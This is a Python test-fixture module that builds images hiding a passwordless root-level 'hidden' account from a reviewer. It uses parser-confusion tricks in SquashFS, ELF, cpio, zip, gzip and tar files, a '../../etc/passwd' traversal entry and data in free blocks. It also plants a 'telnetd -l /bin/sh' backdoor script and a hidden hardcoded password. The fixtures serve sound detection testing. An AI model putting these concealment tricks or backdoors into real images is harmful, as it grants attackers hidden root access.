# SPDX-License-Identifier: Apache-2.0
"""Images that hide an account from the review. Each function writes one into a folder and answers its path.

Every image holds, somewhere and in some way, a passwd file with the account HIDDEN: whoever reviews the image must
state it, or say that something was not examined.
"""
import gzip
import io
import random
import struct
import subprocess
import tarfile
import zipfile
import zlib

HIDDEN = "hidden"
EVIL = b"root:x:0:0::/root:/bin/sh\nhidden::0:0::/:/bin/sh\n"
GOOD = b"root:*:0:0::/root:/bin/sh\n"


def put(folder, name, data):
    path = folder / name
    path.write_bytes(data)
    return path


def squashfs(folder, name, passwd, big=0):
    """A SquashFS with etc/passwd and a file of noise, as mksquashfs makes it."""
    tree = folder / (name + ".tree")
    (tree / "etc").mkdir(parents=True)
    (tree / "etc/passwd").write_bytes(passwd)
    if big:
        (tree / "noise").write_bytes(random.Random(name).randbytes(big))
    image = folder / name
    subprocess.run(["mksquashfs", str(tree), str(image), "-quiet", "-no-progress", "-all-root", "-noappend"], check=True,
                   stdout=subprocess.DEVNULL)
    return image.read_bytes()


def tar(*entries):
    """A tar of (name, data) pairs."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in entries:
            i = tarfile.TarInfo("x")
            i.name, i.size, i.mode = name, len(data), 0o644
            t.addfile(i, io.BytesIO(data))
    return b.getvalue()


def newc(*entries):
    """A cpio archive of (name, data) pairs; the name's NUL is added."""
    out = b""
    for number, (name, data) in enumerate([*entries, (b"TRAILER!!!", b"")]):
        raw = name + b"\0"
        mode = 0 if name == b"TRAILER!!!" else 0o100644
        record = ("070701" + "%08x" * 13 % (number + 1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(raw), 0)).encode()
        record += raw
        record += bytes(-len(record) % 4) + data
        out += record + bytes(-len(record) % 4)
    return out


def second_behind_a_lie(folder):
    """The first SquashFS says that the second is part of it."""
    first = bytearray(squashfs(folder, "first", GOOD, 100000))
    second = squashfs(folder, "second", EVIL)
    struct.pack_into("<Q", first, 40, len(first) + len(second))
    return put(folder, "lie.img", bytes(first) + second)


def swallowed_by_a_header(folder):
    """96 bytes of a SquashFS that reaches to the end, before the real one."""
    real = squashfs(folder, "real", EVIL)
    fake = bytearray(real[:96])
    struct.pack_into("<Q", fake, 40, 1 << 40)
    return put(folder, "header.img", bytes(fake) + random.Random(5).randbytes(65536 - 96) + real)


def swallowed_by_elf(folder):
    """A program whose section table stands at the image's end: all between seems to be its own."""
    real = squashfs(folder, "real", EVIL)
    end = 4096 + len(real)
    head = b"\x7fELF\1\1\1" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 40, 1, 0x8000, 0, end, 0, 52, 32, 0, 40, 1, 0)
    return put(folder, "program.img", head.ljust(4096, b"\x5a") + real + bytes(40))


def swallowed_by_cpio(folder):
    """Two records, the last of which is cut off: everything behind is its data."""
    real = squashfs(folder, "real", EVIL)
    head = newc((b"a", b"a"))[:-124]
    last = ("070701" + "%08x" * 13 % (9, 0o100644, 0, 0, 1, 0, 0x7fffffff, 0, 0, 0, 0, 2, 0)).encode() + b"b\0"
    return put(folder, "cut.img", head + last + random.Random(6).randbytes(4096) + real)


def two_at_one_place(folder):
    """A SquashFS whose first file is stored and holds an ext file system but for its first 96 bytes, which are unused:
    the superblocks of both stand where they must."""
    inner, tree = folder / "inner", folder / "tree"
    (inner / "etc").mkdir(parents=True)
    (inner / "etc/passwd").write_bytes(EVIL)
    (tree / "etc").mkdir(parents=True)
    (tree / "etc/passwd").write_bytes(GOOD)
    ext = folder / "inner.ext2"
    subprocess.run(["mke2fs", "-q", "-t", "ext2", "-b", "1024", "-d", str(inner), str(ext), "512"], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    (tree / "blob").write_bytes(ext.read_bytes()[96:])
    image = folder / "both.img"
    subprocess.run(["mksquashfs", str(tree), str(image), "-quiet", "-no-progress", "-noD", "-noF", "-no-fragments",
                    "-no-sparse", "-all-root"], check=True, stdout=subprocess.DEVNULL)
    assert image.read_bytes()[1080:1082] == b"\x53\xef"
    return image


def behind_a_picture(folder, front=b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"):
    """A file of an archive that starts like a picture and goes on as a file system."""
    real = squashfs(folder, "real", EVIL)
    return put(folder, "picture.tar", tar(("www/logo.png", front + random.Random(7).randbytes(4096) + real)))


def behind_two_letters(folder):
    return behind_a_picture(folder, b"MZ")


def behind_text(folder):
    """More text than is looked at, then an archive."""
    return put(folder, "text.tar", tar(("README", b"All is well.\n" * 90000 + gzip.compress(
        tar(("etc/passwd", EVIL)), mtime=0))))


def zip_of(*entries):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return b.getvalue()


def zip_unlisted(folder):
    """An entry that the directory of the zip does not name; who reads from the front sees it."""
    data = zip_of(("a", b"a" * 50), ("etc/passwd", EVIL), ("b", b"b" * 50))
    first = data.index(b"PK\1\2")
    entries = data[first:data.index(b"PK\5\6")].split(b"PK\1\2")[1:]
    kept = b"".join(b"PK\1\2" + e for e in (entries[0], entries[2]))
    return put(folder, "unlisted.zip", data[:first] + kept + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2, 2, len(kept),
               first, 0))


def zip_two_truths(folder):
    """The directory says: a short stored file. The local header says: a longer packed one."""
    packed = zlib.compress(EVIL)[2:-4]
    shown = packed[:8]
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, zlib.crc32(EVIL), len(packed), len(EVIL), 10, 0)
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 33, zlib.crc32(shown), len(shown), len(shown), 10, 0,
                          0, 0, 0, 0, 0)
    body = local + b"etc/passwd" + packed
    return put(folder, "truths.zip", body + central + b"etc/passwd" + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1,
               len(central) + 10, len(body), 0))


def gzip_members(folder):
    """A tar that ends in the first member; a second tar in the next, and one behind bytes that are no gzip."""
    return put(folder, "members.tar.gz", gzip.compress(tar(("etc/motd", b"hello\n")), mtime=0)
               + gzip.compress(tar(("etc/passwd", EVIL)), mtime=0))


def gzip_after_noise(folder):
    return put(folder, "noise.tar.gz", gzip.compress(tar(("etc/motd", b"hello\n")), mtime=0) + b"\1noise" * 20
               + gzip.compress(tar(("etc/passwd", EVIL)), mtime=0))


def cpio_names_with_nul(folder):
    """Linux takes the name to its NUL."""
    return put(folder, "nul.cpio", newc((b"a", b"a"), (b"etc/passwd\0.old", EVIL)))


def cpio_after_trailer(folder):
    return put(folder, "twice.cpio", newc((b"etc/passwd", GOOD)) + bytes(512) + newc((b"etc/passwd", EVIL)))


def tar_climbs(folder):
    """An unpacker that follows the name installs it."""
    return put(folder, "climbs.tar", tar(("a", b"a"), ("../../etc/passwd", EVIL)))


def tar_twice(folder):
    """The last one wins on the device, the first one here: both must be seen."""
    return put(folder, "twice.tar", tar(("etc/passwd", GOOD), ("./etc//passwd", EVIL)))


def tar_folder_with_data(folder):
    """An entry that is a folder, says some readers; others take its data for the next entries."""
    whole = bytearray(tar(("harmless", tar(("etc/passwd", EVIL))), ("last", b"x")))
    whole[156:157] = b"5"
    whole[148:156] = b" " * 8
    whole[148:156] = b"%06o\0 " % sum(whole[:512])
    return put(folder, "folder.tar", bytes(whole))


def between_partitions(folder):
    """A file system in the gap between two partitions, and nothing says so."""
    real = squashfs(folder, "real", EVIL)
    sectors = -(-len(real) // 512)
    entry = lambda at, n: struct.pack("<4B4BII", 0, 0, 1, 0, 0x83, 0, 1, 0, at, n)
    mbr = bytes(446) + entry(64, 64) + entry(256 + sectors, 64) + bytes(32) + b"\x55\xaa"
    disk = bytearray((512 + sectors) * 512)
    disk[:512] = mbr
    disk[130 * 512:130 * 512 + len(real)] = real
    return put(folder, "gap.img", bytes(disk))


def behind_the_file_system(folder):
    """A partition that is larger than the file system in it."""
    first, real = squashfs(folder, "first", GOOD), squashfs(folder, "real", EVIL)
    return put(folder, "behind.img", first + b"\xa5" * 100 + real)


def in_free_blocks(folder):
    """An ext2 whose free blocks hold a file system; a program finds it by its offset."""
    real = squashfs(folder, "real", EVIL)
    tree = folder / "tree"
    tree.mkdir()
    (tree / "motd").write_bytes(b"hello\n")
    image = folder / "free.ext2"
    subprocess.run(["mke2fs", "-q", "-t", "ext2", "-b", "1024", "-d", str(tree), str(image), "1024"], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    data = bytearray(image.read_bytes())
    data[700 * 1024:700 * 1024 + len(real)] = real
    return put(folder, "free.img", bytes(data))


def in_free_clusters(folder):
    """The same in a FAT."""
    real = squashfs(folder, "real", EVIL)
    image = folder / "free.fat"
    with open(image, "wb") as f:
        f.truncate(2 << 20)
    subprocess.run(["mkfs.vfat", "-F", "12", "-s", "4", str(image)], check=True, stdout=subprocess.DEVNULL)
    data = bytearray(image.read_bytes())
    data[1 << 20:(1 << 20) + len(real)] = real
    return put(folder, "free.img", bytes(data))


def in_squashfs_slack(folder):
    """Between the superblock and the first block of a SquashFS that points past it."""
    real = squashfs(folder, "real", EVIL)
    outer = squashfs(folder, "outer", GOOD, 5000)
    # The tables and blocks stay where they are: the slack is behind the last table, and the superblock counts it.
    data = bytearray(outer) + real
    struct.pack_into("<Q", data, 40, len(data))
    return put(folder, "slack.tar", tar(("rootfs", bytes(data))))


def passwd_with_bytes(folder, front=b"", back=b""):
    path = folder / "tree"
    (path / "etc").mkdir(parents=True)
    (path / "etc/passwd").write_bytes(front + EVIL + back)
    return path


def passwd_like_a_picture(folder):
    """The C library skips the line that is none; so must we."""
    return passwd_with_bytes(folder, b"\x89PNG\r\n\x1a\n\n")


def passwd_like_a_program(folder):
    head = b"\x7fELF\1\1\1" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 40, 1, 0x8000, 0, 0, 0, 52, 32, 0, 40, 0, 0)
    return passwd_with_bytes(folder, head + b"\n")


def passwd_before_noise(folder):
    return passwd_with_bytes(folder, b"", b"\0\1\2" + random.Random(8).randbytes(200000))


def passwd_with_controls(folder):
    return passwd_with_bytes(folder, b"#\x01\x02\n")


def passwd_before_an_archive(folder):
    return passwd_with_bytes(folder, b"", gzip.compress(random.Random(9).randbytes(100000), mtime=0))


def one_file(folder, name, data):
    path = folder / "tree" / name
    path.parent.mkdir(parents=True)
    path.write_bytes(data)
    return folder / "tree"


SHELL = b"#!/bin/sh\ntelnetd -l /bin/sh\nexit 0\n"
SECRET = b"admin_password=Zx81kqQw7\n"


def script_before_noise(folder):
    """The shell stops at exit; what follows makes the file no text."""
    return one_file(folder, "etc/init.d/S50net", SHELL + random.Random(10).randbytes(300000))


def script_before_padding(folder):
    return one_file(folder, "etc/init.d/S50net", SHELL + b"# nothing\n" * 600000)


def config_with_a_nul(folder):
    return one_file(folder, "etc/app.conf", SECRET + b"\0\n")


def config_behind_padding(folder):
    return one_file(folder, "etc/app.conf", b"# nothing\n" * 300000 + SECRET)


# The account must be stated.
SEEN = [second_behind_a_lie, swallowed_by_a_header, swallowed_by_elf, swallowed_by_cpio, behind_a_picture, behind_two_letters,
        behind_text, zip_unlisted, gzip_members, gzip_after_noise, cpio_names_with_nul, cpio_after_trailer, tar_climbs,
        tar_twice, tar_folder_with_data, between_partitions, behind_the_file_system, in_free_blocks, in_free_clusters,
        in_squashfs_slack, passwd_like_a_picture, passwd_like_a_program, passwd_before_noise, passwd_with_controls,
        passwd_before_an_archive]
# It must be said that something was not examined, and why.
SAID = [(two_at_one_place, "ambiguous"), (zip_two_truths, "damaged"), (config_behind_padding, "limit")]
# There must be this finding.
FOUND = [(two_at_one_place, "unexamined-ambiguous"), (script_before_noise, "backdoor-telnet-shell"),
         (script_before_padding, "backdoor-telnet-shell"), (config_with_a_nul, "secret-password")]
